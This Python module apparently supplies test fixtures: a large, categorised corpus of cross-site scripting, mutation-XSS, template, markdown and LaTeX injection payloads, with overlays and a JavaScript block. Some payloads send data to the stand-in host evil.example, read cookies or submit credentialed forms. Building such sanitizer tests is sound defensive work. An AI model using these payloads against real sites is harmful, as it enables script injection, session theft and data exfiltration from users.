# ruff: noqa: E501  (a payload is one line)
"""A corpus of script, requests, navigation and overlays, made of classes: ways to run × contexts to break out of × spellings.

Each payload calls `hurt(tag, origin)` where its script runs, or asks EVIL for something. CLASSES names why each is there.
"""

from __future__ import annotations

import itertools

EVIL = "https://evil.example"
TAG = itertools.count(1)


def call() -> str:
    """Script that tells where it ran; its tag says which payload it was."""
    return f"hurt({next(TAG)},self.origin)"


def handlers() -> list[str]:
    """Elements that run a handler by themselves."""
    made = [
        "<img src=x onerror={}>", "<img src='x' onerror=\"{}\"/>", "<IMG SRC=x OnErRoR={}>", "<img/src=x/onerror={}>", "<img\x0csrc=x\x0conerror={}>",
        "<img src=x:x onerror\n=\n{}>", "<img src=`x` onerror={}>", "<img src=x onerror={}//", "<image src=x onerror={}>", "<img srcset=x onerror={}>",
        "<svg onload={}>", "<svg/onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>", "<svg><script>{}</script></svg>",
        "<svg><script xlink:href=data:,{}></script></svg>", "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror={} /></svg>#x'/></svg>",
        "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>", "<svg><image href=x onerror={}></svg>", "<svg><discard onbegin={}>", "<body onload={}>", "<body onpageshow={}>",
        "<video src=x onerror={}></video>", "<video><source src=x onerror={}></video>", "<audio src=x onerror={}></audio>", "<video poster=x onloadstart={} src=y></video>", "<details open ontoggle={}>x</details>",
        "<input autofocus onfocus={}>", "<select autofocus onfocus={}></select>", "<textarea autofocus onfocus={}></textarea>", "<button autofocus onfocus={}>x</button>", "<a href=# autofocus onfocus={} tabindex=1>x</a>",
        "<x onfocus={} autofocus tabindex=1>x</x>", "<div contenteditable autofocus onfocus={}>x</div>", "<marquee onstart={}>x</marquee>", "<object data=x onerror={}></object>", "<embed src=x onerror={}>", "<link rel=stylesheet href=x onerror={}>",
        "<style onload={}></style>", "<style>@keyframes k{{}}</style><b style='animation-name:k' onanimationstart={}>x</b>", "<b style='transition:1s' ontransitionend={}>x</b>", "<script src=x onerror={}></script>", "<iframe onload={}></iframe>",
        "<math><mi onclick={}>x</mi></math>", "<dialog open onclose={}>x</dialog>", "<div popover onbeforetoggle={}>x</div>", "<b onmouseover={} style=font-size:300px>x</b>", "<menu onscroll={}>x</menu>", "<div onpointerrawupdate={}>x</div>",
        "<div oncontentvisibilityautostatechange={} style=content-visibility:auto>x</div>", "<a onclick={} href=#>x</a>", "<b onclick={}>x</b>",
    ]  # fmt: skip
    return [one.format(call()) for one in made]


def scripts() -> list[str]:
    """Script elements and addresses that are script."""
    made = [
        "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script\n>{}</script\n>", "<script/x>{}</script>", "<script type=module>{}</script>", "<script>{}//", "<script src=data:text/javascript,{}></script>",
        "<script>/*<!--*/{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<noscript><script>{}</script></noscript>", "<template><script>{}</script></template>", "<script nonce=n0>{}</script>",
        "<script type=importmap>{{\"imports\":{{\"x\":\"data:text/javascript,{}\"}}}}</script>", "<a href=\"javascript:{}\">x</a>", "<a href=\" javascript:{}\">x</a>", "<a href=\"JaVaScRiPt:{}\">x</a>", "<a href=\"java\tscript:{}\">x</a>",
        "<a href=\"java\nscript:{}\">x</a>", "<a href=\"&#106;avascript:{}\">x</a>", "<a href=\"&#x6A;avascript&colon;{}\">x</a>", "<a href=\"javascript&#0000058{}\">x</a>", "<a href=\"\x01javascript:{}\">x</a>", "<a href=\"vbscript:{}\">x</a>",
        "<a href=\"data:text/html,<script>{}</script>\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD5odXJ0KDEpPC9zY3JpcHQ+\">{}</a>", "<a href=\"blob:x\" ping=\"javascript:{}\">x</a>", "<iframe src=\"javascript:{}\"></iframe>",
        "<iframe srcdoc=\"<script>{}</script>\"></iframe>", "<iframe srcdoc='&lt;img src=x onerror={}&gt;'></iframe>", "<object data=\"javascript:{}\"></object>", "<object data=\"data:text/html,<script>{}</script>\"></object>", "<embed src=\"javascript:{}\">",
        "<form action=\"javascript:{}\"><button autofocus>x</button></form>", "<button form=f formaction=\"javascript:{}\">x</button><form id=f></form>", "<isindex action=\"javascript:{}\" type=image>", "<base href=\"javascript:{}//\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>{}</script>\">", "<link rel=import href=\"data:text/html,<script>{}</script>\">", "<img src=\"javascript:{}\">",
        "<img dynsrc=\"javascript:{}\">", "<table background=\"javascript:{}\">", "<div style=\"background:url(javascript:{})\">x</div>", "<div style=\"width:expression({})\">x</div>", "<math href=\"javascript:{}\">x</math>", "<math xlink:href=\"javascript:{}\">x</math>",
        "<frameset><frame src=\"javascript:{}\"></frameset>", "<portal src=\"javascript:{}\"></portal>", "<area href=\"javascript:{}\">", "<img usemap=#m src=x><map name=m><area shape=default href=\"javascript:{}\"></map>",
    ]  # fmt: skip
    return [one.format(call()) for one in made]


def mutations() -> list[str]:
    """Markup that means another thing when it is parsed again (mXSS)."""
    image = "<img src=x onerror={}>"
    made = [
        f"<noscript><p title=\"</noscript>{image}\">", f"<style><style/>{image}", f"<svg><style><a id=\"</style>{image}\">", f"<math><mtext><table><mglyph><style><!--</style>{image}", f"<svg></p><style><a id=\"</style>{image}\">",
        f"<form><math><mtext></form><form><mglyph><style></math>{image}", f"<math><annotation-xml encoding=text/html><style><!--</style>{image}--></style>", f"<svg><title><style><a title=\"</style>{image}\">",
        f"<xmp><p title=\"</xmp>{image}\">", f"<title><p title=\"</title>{image}\">", f"<textarea><p title=\"</textarea>{image}\">", f"<iframe><p title=\"</iframe>{image}\">", f"<noembed><p title=\"</noembed>{image}\">", f"<plaintext>{image}",
        f"<template><style></template>{image}", f"<select><template><style></select>{image}", f"<select><iframe></select>{image}", f"<table><td><svg><desc><td>{image}", f"<svg><desc><noscript>{image}</noscript></desc></svg>",
        f"<!-->{image}-->", f"<!--->{image}-->", f"<!--x--!>{image}", f"<![CDATA[>{image}]]>", f"<?x ?>{image}", f"<!x>{image}", f"<//x>{image}", f"</x {image}", f"<a title='<a title=\">{image}\"'>x</a>", f"<b>{'<b>' * 300}{image}",
        f"<svg><![CDATA[</svg>{image}]]>", f"<math><![CDATA[<a title=']]>{image}']]>", f"<listing>&lt;img src=x onerror=1&gt;{image}</listing>", f"<p id='\"><!--'>{image}<!-- -->", f"<span title=\"\u00ad'>{image}\">", f"<img alt=\"`>{image}`\">",
    ]  # fmt: skip
    return [one.format(call()) for one in made]


def escapes() -> list[str]:
    """Ways out of the place where text stands."""
    ends = [
        '">{}', "'>{}", "`>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "--> {}", "]]>{}", "</pre></code>{}", "</option></select>{}", "</svg>{}", "</template>{}", "</noscript>{}", "</iframe>{}", "</td></tr></table>{}", "\x00{}", "\n\n{}",
        "*/{}", "</span></div></main>{}", "%22%3E{}", "&quot;&gt;{}", "\\\"><{}", "\u2028{}", "\ufeff{}", "\u202e{}", "\x1b[31m{}\x1b[0m", "\x1b[3{}1m", "\x1b]0;{}\x07", "\x1b]8;;{}\x07x\x1b]8;;\x07", "\x9b31m{}", "\r{}",
    ]  # fmt: skip
    inner = [
        f"<img src=x onerror={call()}>",
        f"<script>{call()}</script>",
        f"<svg onload={call()}>",
        f"onerror={call()} x=",
    ]
    found = [end.replace("{}", one) for end in ends for one in inner[:2]]
    found += [
        f"\x1b]8;;javascript:{call()}\x07link\x1b]8;;\x07",
        f"\x1b]8;;javascript:{call()}\x1b\\link\x1b]8;;\x1b\\",
        f"\x1b[38;2;{call()}mred",
    ]
    found += [
        f"javascript:{call()}",
        f"${{{call()}}}",
        f"{{{{constructor.constructor('{call()}')()}}}}",
        f"#{{{call()}}}",
        f"<%= {call()} %>",
        f"{{% debug %}}{call()}",
        f"\\u003cimg src=x onerror={call()}\\u003e",
        f"+ADw-script+AD4-{call()}+ADw-/script+AD4-",
    ]
    return found + [
        f"＜script＞{call()}＜/script＞",
        f"\ud83d\ude00<img src=x onerror={call()}>",
        f"&lt;img src=x onerror={call()}&gt;",
        f"&amp;lt;script&amp;gt;{call()}",
        f"{inner[3]}",
        f"';{call()};'",
        f'";{call()};"',
        f"`;{call()};`",
    ]


def requests() -> list[str]:
    """What asks another site for something, or goes there."""
    return [
        f"<img src={EVIL}/1>", f"<img srcset='{EVIL}/2 1x'>", f"<picture><source srcset={EVIL}/3><img></picture>", f"<link rel=stylesheet href={EVIL}/4>", f"<link rel=prefetch href={EVIL}/5>", f"<link rel=preload as=image href={EVIL}/6>", f"<link rel=icon href={EVIL}/7>",
        f"<style>@import '{EVIL}/8';</style>", f"<style>b{{background:url({EVIL}/9)}}</style><b>x</b>", f"<b style='background:url({EVIL}/10)'>x</b>", f"<style>@font-face{{font-family:f;src:url({EVIL}/11)}}b{{font-family:f}}</style><b>x</b>", f"<iframe src={EVIL}/12></iframe>",
        f"<video src={EVIL}/13 autoplay></video>", f"<video poster={EVIL}/14></video>", f"<audio src={EVIL}/15></audio>", f"<object data={EVIL}/16></object>", f"<embed src={EVIL}/17>", f"<script src={EVIL}/18></script>", f"<meta http-equiv=refresh content='0;url={EVIL}/19'>", f"<base href={EVIL}/>",
        f"<form action={EVIL}/20 method=post><input name=x><button autofocus>x</button></form>", "<form action=/notebooks/new/ method=post><button>x</button></form>", f"<input type=image src={EVIL}/21>", f"<svg><image href={EVIL}/22 /></svg>", f"<svg><use href={EVIL}/23#x /></svg>", f"<body background={EVIL}/24>", f"<table background={EVIL}/25>",
        f"<track src={EVIL}/26>", f"<a href=# ping={EVIL}/27>x</a>", f"![x]({EVIL}/28)", f"![x](data:image/svg+xml,<svg/onload={call()}>)", f"[x](javascript:{call()})", f"[x](<javascript:{call()}>)", f"[x]: javascript:{call()}\n[x]", f"<javascript:{call()}>", f"![x](x\"onerror=\"{call()})", f"[a](x 'onmouseover={call()}')",
        f"[x](&#x6A;avascript:{call()})", f"[x](java%0ascript:{call()})", "[x](data:text/html;base64,PHNjcmlwdD4=)", f"$$\\href{{javascript:{call()}}}{{x}}$$", f"$\\url{{javascript:{call()}}}$", f"$\\includegraphics{{{EVIL}/29}}$", "$\\htmlData{x=1}{y}$", "$\\htmlStyle{position:fixed}{y}$", "$\\def\\x{\\x\\x}\\x$", "$" + "\\frac{1}{" * 200 + "1" + "}" * 200 + "$",
    ]  # fmt: skip


def overlays() -> list[str]:
    """What lies over the page, takes its clicks or its names."""
    return [
        "<div style='position:fixed;inset:0;z-index:2147483647;background:#f00'>x</div>", "<style>*{position:fixed!important;inset:0;z-index:99999}</style>", "<p class='dialog toast menu banner topbar is-selected'>x</p>", "<div class=cell data-cell=x data-action=delete>x</div>", "<button data-action=run_all>x</button>",
        "<a href=# data-goto-number=1 data-action=stop>x</a>", "<div id=notebook data-notebook=x>x</div>", "<script id=page-data type=application/json>{}</script>", "<img name=body id=cookie>", "<form name=documentElement id=head><input name=attributes><input name=parentNode></form>", "<a id=defaultView></a><a id=defaultView name=x></a>",
        "<details open style='position:fixed;top:0'>x</details>", "<dialog open style='position:fixed;inset:0'>x</dialog>", "<div popover=manual>x</div>", "<div hx-get=/x hx-trigger=load x-init=1 v-on:click=1>x</div>", "<div data-ui-panel=open data-part=cells>x</div>", "<label for=run>x</label>", "<input type=password name=password>", "<table width=99999 height=99999><td>x</table>",
        "<img src='data:image/png;base64,iVBORw0KGgo=' width=99999 height=99999>", "<svg width=99999 height=99999 style=position:fixed><rect width=100% height=100% /></svg>", "<ol start=-99999999999><li>x</ol>",
    ]  # fmt: skip


CLASSES = {
    "handlers": handlers(),
    "scripts": scripts(),
    "mutations": mutations(),
    "escapes": escapes(),
    "requests": requests(),
    "overlays": overlays(),
}
ALL = [payload.encode("utf-8", "replace").decode() for payloads in CLASSES.values() for payload in payloads]

JS = f"""try {{ {call()} }} catch (e) {{}}
for (const go of [
  () => top.{call()}, () => parent.{call()}, () => top.document.body.remove(), () => (top.location = "{EVIL}/31"), () => (parent.location.href = "{EVIL}/32"), () => window.open("{EVIL}/33"), () => fetch("{EVIL}/34"), () => fetch("/notebooks/new/", {{ method: "POST", credentials: "include" }}),
  () => (new Image().src = "{EVIL}/35"), () => navigator.sendBeacon("{EVIL}/36"), () => new WebSocket("wss://evil.example/37"), () => new EventSource("{EVIL}/38"), () => document.cookie, () => localStorage.x, () => alert(1), () => print(), () => import("{EVIL}/39"),
  () => new Worker("{EVIL}/40"), () => document.body.append(Object.assign(document.createElement("iframe"), {{ src: "{EVIL}/41" }})), () => document.body.append(Object.assign(document.createElement("form"), {{ action: "{EVIL}/42", method: "post" }})) || document.forms[0].submit(),
  () => parent.postMessage({{ type: "height", height: 1e9 }}, "*"), () => parent.postMessage({{ type: "height", height: -5 }}, "*"), () => parent.postMessage({{ type: "link", href: "javascript:hurt(0,self.origin)" }}, "*"), () => parent.postMessage({{ type: "note", text: "<img src=x onerror=hurt(0,self.origin)>".repeat(99) }}, "*"),
  () => parent.postMessage({{ type: "exported", id: "", data: new ArrayBuffer(9) }}, "*"), () => top.postMessage({{ type: "ready" }}, "*"), () => parent.postMessage(null, "*"), () => {{ for (let n = 0; n < 500; n++) parent.postMessage({{ type: "height", height: n * 1000 }}, "*"); }},
  () => top.frames[0].postMessage({{ type: "render", mime: "text/html", value: "<script>parent.hurt(0)</" + "script>" }}, "*"), () => history.pushState({{}}, "", "{EVIL}/43"), () => (document.domain = document.domain), () => navigator.serviceWorker.register("/sw.js"), () => Notification.requestPermission(), () => document.body.requestFullscreen(),
  () => navigator.clipboard.readText(), () => navigator.geolocation.getCurrentPosition(() => 0), () => navigator.mediaDevices.getUserMedia({{ audio: true }}), () => (location.href = "{EVIL}/44"),
]) try {{ go(); }} catch (e) {{}}"""


def dials(port: int) -> str:
    """Script that asks a STUN server of this machine, over UDP, by WebRTC; quiet where there is none."""
    server = f"stun:127.0.0.1:{port}"
    return (
        f"try {{ const p = new RTCPeerConnection({{iceServers: [{{urls: '{server}'}}]}}); p.createDataChannel('x');"
        " p.createOffer().then((offer) => p.setLocalDescription(offer)); } catch (error) {}"
    )
